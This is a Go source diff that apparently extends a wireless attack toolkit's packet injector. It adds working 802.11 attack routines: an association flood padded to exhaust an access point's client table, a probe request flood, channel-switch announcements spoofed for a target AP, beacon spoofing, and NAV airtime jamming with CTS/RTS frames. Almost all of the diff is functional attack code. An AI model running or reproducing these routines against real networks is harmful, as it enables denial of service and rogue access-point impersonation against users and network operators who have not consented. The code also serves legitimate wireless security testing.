@@ -3,6 +3,7 @@ package injection
 import (
 	"bytes"
 	"context"
+	"encoding/binary"
 	"fmt"
 	"log"
 	"math/rand"
@@ -192,7 +193,10 @@ func (i *Injector) StartMonitor(ctx context.Context, targetMAC string, events ch
 				}
 
 				if dot11.Type == layers.Dot11TypeMgmtProbeReq {
-					select {}
+					select {
+					case events <- "probe":
+					default:
+					}
 				}
 			}
 		}
@@ -266,11 +270,42 @@ func (i *Injector) OptimizeInterfaceForInjection() {
 	}
 }
 
-// StartAuthFlood starts an Authentication Flood attack (MDK style)
+// authResponseTimeout is how long a fake client of an association flood waits
+// for the AP to accept its authentication before it is given up.
+const authResponseTimeout = 500 * time.Millisecond
+
+// maxPendingAuths bounds the fake clients awaiting an authentication response.
+const maxPendingAuths = 1024
+
+// StartAuthFlood starts an Authentication Flood attack (MDK style).
+// In "assoc" mode every fake client authenticates and, once the AP accepts it,
+// sends an Association Request padded with oversized IEs to exhaust the AP's
+// client table.
 func (i *Injector) StartAuthFlood(ctx context.Context, config domain.AuthFloodAttackConfig, statusChan chan<- domain.AuthFloodAttackStatus) error {
 	// Optimize interface for robustness (Low 'n Slow)
 	i.OptimizeInterfaceForInjection()
 
+	var responses <-chan gopacket.Packet
+	if config.AttackType == domain.AuthFloodTypeAssociation {
+		handle, err := pcap.OpenLive(i.Interface, 65536, true, pcap.BlockForever)
+		if err != nil {
+			return fmt.Errorf("failed to open capture on %s: %w", i.Interface, err)
+		}
+		defer handle.Close()
+
+		filter := fmt.Sprintf("type mgt subtype auth and wlan addr2 %s", config.TargetBSSID)
+		if err := handle.SetBPFFilter(filter); err != nil {
+			return fmt.Errorf("failed to set BPF filter: %w", err)
+		}
+		responses = gopacket.NewPacketSource(handle, handle.LinkType()).Packets()
+	}
+
+	return i.runAuthFlood(ctx, config, responses, statusChan)
+}
+
+// runAuthFlood floods authentication requests and, in "assoc" mode, sends the
+// association request of each fake client the AP accepts on responses.
+func (i *Injector) runAuthFlood(ctx context.Context, config domain.AuthFloodAttackConfig, responses <-chan gopacket.Packet, statusChan chan<- domain.AuthFloodAttackStatus) error {
 	targetMAC, err := net.ParseMAC(config.TargetBSSID)
 	if err != nil {
 		return fmt.Errorf("invalid target BSSID: %w", err)
@@ -285,6 +320,16 @@ func (i *Injector) StartAuthFlood(ctx context.Context, config domain.AuthFloodAt
 		}
 	}
 
+	assoc := config.AttackType == domain.AuthFloodTypeAssociation
+	label := "auth_flood"
+	iePadding := config.IEPaddingBytes
+	if assoc {
+		label = "assoc_flood"
+		if iePadding == 0 {
+			iePadding = domain.DefaultAssocIEPadding
+		}
+	}
+
 	interval := config.PacketInterval
 	if interval <= 0 {
 		interval = 10 * time.Millisecond // Faster for Auth Flood
@@ -293,6 +338,23 @@ func (i *Injector) StartAuthFlood(ctx context.Context, config domain.AuthFloodAt
 	ticker := time.NewTicker(interval)
 	defer ticker.Stop()
 
+	sent := 0
+	pending := make(map[string]time.Time) // Fake clients awaiting the AP's authentication response
+	inject := func(frame []byte) {
+		if err := i.Inject(frame); err != nil {
+			telemetry.InjectionErrors.WithLabelValues(i.Interface, label).Inc()
+			return
+		}
+		telemetry.InjectionsTotal.WithLabelValues(i.Interface, label).Inc()
+		sent++
+
+		// Report progress without blocking the flood
+		select {
+		case statusChan <- domain.AuthFloodAttackStatus{Status: domain.AttackRunning, PacketsSent: sent}:
+		default:
+		}
+	}
+
 	for {
 		select {
 		case <-ctx.Done():
@@ -307,43 +369,364 @@ func (i *Injector) StartAuthFlood(ctx context.Context, config domain.AuthFloodAt
 				srcMAC = randomMAC()
 			}
 
-			i.mu.Lock()
-			seq := i.seq
-			i.seq++
-			i.mu.Unlock()
+			pkt, err := SerializeAuthRequest(targetMAC, srcMAC, i.nextSeq())
+			if err != nil {
+				return err
+			}
+			inject(pkt)
 
-			// 1. RadioTap
-			radiotap := &layers.RadioTap{
-				Present: layers.RadioTapPresentRate,
-				Rate:    5,
+			if assoc {
+				now := time.Now()
+				for mac, sentAt := range pending {
+					if now.Sub(sentAt) > authResponseTimeout {
+						delete(pending, mac)
+					}
+				}
+				if len(pending) < maxPendingAuths {
+					pending[srcMAC.String()] = now
+				}
+			}
+		case packet, ok := <-responses:
+			if !ok {
+				responses = nil // Capture closed, no more associations
+				continue
+			}
+			client, accepted := authAccepted(packet, targetMAC)
+			if !accepted {
+				continue
+			}
+			sentAt, waiting := pending[client.String()]
+			if !waiting || time.Since(sentAt) > authResponseTimeout {
+				continue
 			}
+			delete(pending, client.String())
+
+			pkt, err := SerializeAssocRequest(targetMAC, client, config.TargetSSID, iePadding, i.nextSeq())
+			if err != nil {
+				return err
+			}
+			inject(pkt)
+		}
+
+		if config.PacketCount > 0 && sent >= config.PacketCount {
+			return nil
+		}
+	}
+}
+
+// authAccepted returns the client a successful authentication response of
+// bssid is addressed to.
+func authAccepted(packet gopacket.Packet, bssid net.HardwareAddr) (net.HardwareAddr, bool) {
+	dot11, ok := packet.Layer(layers.LayerTypeDot11).(*layers.Dot11)
+	if !ok || dot11.Type != layers.Dot11TypeMgmtAuthentication || !bytes.Equal(dot11.Address2, bssid) {
+		return nil, false
+	}
+	// Algorithm, transaction sequence 2 (response), status 0 (success)
+	body := dot11.Payload
+	if len(body) < 6 || binary.LittleEndian.Uint16(body[2:4]) != 2 || binary.LittleEndian.Uint16(body[4:6]) != 0 {
+		return nil, false
+	}
+	return dot11.Address1, true
+}
+
+// StartProbeFlood floods Probe Requests for configured or random SSIDs (MDK "p" mode).
+// It stops when the context is cancelled, PacketCount is reached or Duration elapses.
+func (i *Injector) StartProbeFlood(ctx context.Context, config domain.ProbeFloodAttackConfig, statusChan chan<- domain.ProbeFloodAttackStatus) error {
+	bssid, _ := net.ParseMAC("ff:ff:ff:ff:ff:ff")
+	if config.TargetBSSID != "" {
+		var err error
+		bssid, err = net.ParseMAC(config.TargetBSSID)
+		if err != nil {
+			return fmt.Errorf("invalid target BSSID: %w", err)
+		}
+	}
 
-			// 2. Dot11 Auth
-			dot11 := &layers.Dot11{
-				Type:           layers.Dot11TypeMgmtAuthentication,
-				Address1:       targetMAC, // Destination (AP)
-				Address2:       srcMAC,    // Source (Fake Client)
-				Address3:       targetMAC, // BSSID
-				SequenceNumber: seq,
+	var fixedMAC net.HardwareAddr
+	if !config.UseRandomMAC && config.FixedSourceMAC != "" {
+		var err error
+		fixedMAC, err = net.ParseMAC(config.FixedSourceMAC)
+		if err != nil {
+			return fmt.Errorf("invalid fixed source MAC: %w", err)
+		}
+	}
+
+	ssidLen := config.SSIDLength
+	if ssidLen <= 0 {
+		ssidLen = domain.DefaultProbeFloodSSIDLength
+	}
+
+	interval := config.PacketInterval
+	if interval <= 0 {
+		interval = 10 * time.Millisecond
+	}
+
+	if config.Duration > 0 {
+		var cancel context.CancelFunc
+		ctx, cancel = context.WithTimeout(ctx, config.Duration)
+		defer cancel()
+	}
+
+	ticker := time.NewTicker(interval)
+	defer ticker.Stop()
+
+	sent := 0
+	for n := 0; ; n++ {
+		select {
+		case <-ctx.Done():
+			return nil
+		case <-ticker.C:
+			srcMAC := fixedMAC
+			if config.UseRandomMAC || srcMAC == nil {
+				srcMAC = randomMAC()
 			}
 
-			// 3. Auth Body
-			payload := []byte{
-				0x00, 0x00, // Algorithm: Open System
-				0x01, 0x00, // Sequence: 1
-				0x00, 0x00, // Status: Successful
+			ssid := randomSSID(ssidLen)
+			if len(config.SSIDs) > 0 {
+				ssid = config.SSIDs[n%len(config.SSIDs)]
 			}
 
-			buf := gopacket.NewSerializeBuffer()
-			opts := gopacket.SerializeOptions{FixLengths: true, ComputeChecksums: true}
-			gopacket.SerializeLayers(buf, opts, radiotap, dot11, gopacket.Payload(payload))
-			pkt := buf.Bytes()
+			pkt, err := SerializeProbeRequestFrom(srcMAC, bssid, ssid, i.nextSeq())
+			if err != nil {
+				return err
+			}
 
 			if err := i.Inject(pkt); err != nil {
-				telemetry.InjectionErrors.WithLabelValues(i.Interface, "auth_flood").Inc()
+				telemetry.InjectionErrors.WithLabelValues(i.Interface, "probe_flood").Inc()
 			} else {
-				telemetry.InjectionsTotal.WithLabelValues(i.Interface, "auth_flood").Inc()
+				telemetry.InjectionsTotal.WithLabelValues(i.Interface, "probe_flood").Inc()
+				sent++
+			}
+
+			select {
+			case statusChan <- domain.ProbeFloodAttackStatus{Status: domain.AttackRunning, PacketsSent: sent}:
+			default:
+			}
+
+			if config.PacketCount > 0 && sent >= config.PacketCount {
+				return nil
 			}
 		}
 	}
 }
+
+// StartCSAAttack repeatedly announces a channel switch on behalf of the target AP.
+func (i *Injector) StartCSAAttack(ctx context.Context, config domain.CSAAttackConfig, statusChan chan<- domain.CSAAttackStatus) error {
+	bssid, err := net.ParseMAC(config.TargetBSSID)
+	if err != nil {
+		return fmt.Errorf("invalid target BSSID: %w", err)
+	}
+
+	targetMAC, _ := net.ParseMAC("ff:ff:ff:ff:ff:ff")
+	if config.TargetMAC != "" {
+		targetMAC, err = net.ParseMAC(config.TargetMAC)
+		if err != nil {
+			return fmt.Errorf("invalid target MAC: %w", err)
+		}
+	}
+
+	interval := config.PacketInterval
+	if interval <= 0 {
+		interval = 100 * time.Millisecond // Match a typical beacon interval
+	}
+
+	ticker := time.NewTicker(interval)
+	defer ticker.Stop()
+
+	sent := 0
+	for frame := 0; ; frame++ {
+		select {
+		case <-ctx.Done():
+			return nil
+		case <-ticker.C:
+			var pkt []byte
+			count := csaCount(config.SwitchCount, frame)
+			if config.FrameMode == domain.CSAModeBeacon {
+				pkt, err = SerializeCSABeacon(targetMAC, bssid, config.TargetSSID, uint8(config.Channel), uint8(config.NewChannel), count, i.nextSeq())
+			} else {
+				pkt, err = SerializeCSAAction(targetMAC, bssid, uint8(config.NewChannel), count, i.nextSeq())
+			}
+			if err != nil {
+				return err
+			}
+
+			if err := i.Inject(pkt); err != nil {
+				telemetry.InjectionErrors.WithLabelValues(i.Interface, "csa").Inc()
+			} else {
+				telemetry.InjectionsTotal.WithLabelValues(i.Interface, "csa").Inc()
+				sent++
+			}
+
+			select {
+			case statusChan <- domain.CSAAttackStatus{Status: domain.AttackRunning, PacketsSent: sent}:
+			default:
+			}
+
+			if config.PacketCount > 0 && sent >= config.PacketCount {
+				return nil
+			}
+		}
+	}
+}
+
+// csaCount returns the switch count announced in the given frame: it counts
+// down from start to 0, one per frame, as a real AP does once per beacon
+// interval, then the countdown restarts for clients that rejoined.
+func csaCount(start, frame int) uint8 {
+	return uint8(start - frame%(start+1))
+}
+
+// StartBeaconSpoof transmits a crafted or cloned beacon until the context is
+// cancelled, PacketCount is reached or Duration elapses.
+func (i *Injector) StartBeaconSpoof(ctx context.Context, config domain.BeaconSpoofConfig, statusChan chan<- domain.BeaconSpoofStatus) error {
+	bssid := randomMAC()
+	if config.BSSID != "" {
+		var err error
+		bssid, err = net.ParseMAC(config.BSSID)
+		if err != nil {
+			return fmt.Errorf("invalid BSSID: %w", err)
+		}
+	}
+
+	ies, capability, err := BuildBeaconIEs(config)
+	if err != nil {
+		return err
+	}
+
+	beaconInterval := config.BeaconInterval
+	if beaconInterval <= 0 {
+		beaconInterval = domain.DefaultBeaconInterval
+	}
+
+	interval := config.PacketInterval
+	if interval <= 0 {
+		interval = time.Duration(beaconInterval) * 1024 * time.Microsecond
+	}
+
+	if config.Duration > 0 {
+		var cancel context.CancelFunc
+		ctx, cancel = context.WithTimeout(ctx, config.Duration)
+		defer cancel()
+	}
+
+	ticker := time.NewTicker(interval)
+	defer ticker.Stop()
+
+	sent := 0
+	for {
+		select {
+		case <-ctx.Done():
+			return nil
+		case <-ticker.C:
+			pkt, err := SerializeBeacon(bssid, uint16(beaconInterval), capability, ies, i.nextSeq())
+			if err != nil {
+				return err
+			}
+
+			if err := i.Inject(pkt); err != nil {
+				telemetry.InjectionErrors.WithLabelValues(i.Interface, "beacon_spoof").Inc()
+			} else {
+				telemetry.InjectionsTotal.WithLabelValues(i.Interface, "beacon_spoof").Inc()
+				sent++
+			}
+
+			select {
+			case statusChan <- domain.BeaconSpoofStatus{Status: domain.AttackRunning, PacketsSent: sent}:
+			default:
+			}
+
+			if config.PacketCount > 0 && sent >= config.PacketCount {
+				return nil
+			}
+		}
+	}
+}
+
+// StartNAVJam reserves airtime with CTS-to-self or RTS frames carrying large
+// Duration values. Rate, NAV and run time are clamped to the domain safety limits
+// regardless of the configuration received.
+func (i *Injector) StartNAVJam(ctx context.Context, config domain.NAVJamConfig, statusChan chan<- domain.NAVJamStatus) error {
+	own := randomMAC()
+	target := own
+	if config.TargetMAC != "" {
+		var err error
+		target, err = net.ParseMAC(config.TargetMAC)
+		if err != nil {
+			return fmt.Errorf("invalid target MAC: %w", err)
+		}
+	}
+
+	nav := config.NAVMicros
+	if nav <= 0 || nav > domain.MaxNAVDuration {
+		nav = domain.DefaultNAVDuration
+	}
+	rate := config.Rate
+	if rate <= 0 {
+		rate = domain.DefaultNAVJamRate
+	}
+	if rate > domain.MaxNAVJamRate {
+		rate = domain.MaxNAVJamRate
+	}
+	duration := config.Duration
+	if duration <= 0 {
+		duration = domain.DefaultNAVJamLength
+	}
+	if duration > domain.MaxNAVJamDuration {
+		duration = domain.MaxNAVJamDuration
+	}
+
+	var pkt []byte
+	var err error
+	if config.FrameType == domain.NAVJamRTS {
+		pkt, err = SerializeRTS(target, own, uint16(nav))
+	} else {
+		pkt, err = SerializeCTS(target, uint16(nav))
+	}
+	if err != nil {
+		return err
+	}
+
+	ctx, cancel := context.WithTimeout(ctx, duration)
+	defer cancel()
+
+	ticker := time.NewTicker(time.Second / time.Duration(rate))
+	defer ticker.Stop()
+
+	sent := 0
+	for {
+		select {
+		case <-ctx.Done():
+			return nil
+		case <-ticker.C:
+			if err := i.Inject(pkt); err != nil {
+				telemetry.InjectionErrors.WithLabelValues(i.Interface, "nav_jam").Inc()
+			} else {
+				telemetry.InjectionsTotal.WithLabelValues(i.Interface, "nav_jam").Inc()
+				sent++
+			}
+
+			select {
+			case statusChan <- domain.NAVJamStatus{Status: domain.AttackRunning, PacketsSent: sent}:
+			default:
+			}
+		}
+	}
+}
+
+// randomSSID generates a printable SSID of length n.
+func randomSSID(n int) string {
+	const charset = "abcdefghijklmnopqrstuvwxyzABCDEFGHIJKLMNOPQRSTUVWXYZ0123456789"
+	b := make([]byte, n)
+	for k := range b {
+		b[k] = charset[rand.Intn(len(charset))]
+	}
+	return string(b)
+}
+
+// nextSeq returns the next 802.11 sequence number.
+func (i *Injector) nextSeq() uint16 {
+	i.mu.Lock()
+	defer i.mu.Unlock()
+	seq := i.seq
+	i.seq++
+	return seq
+}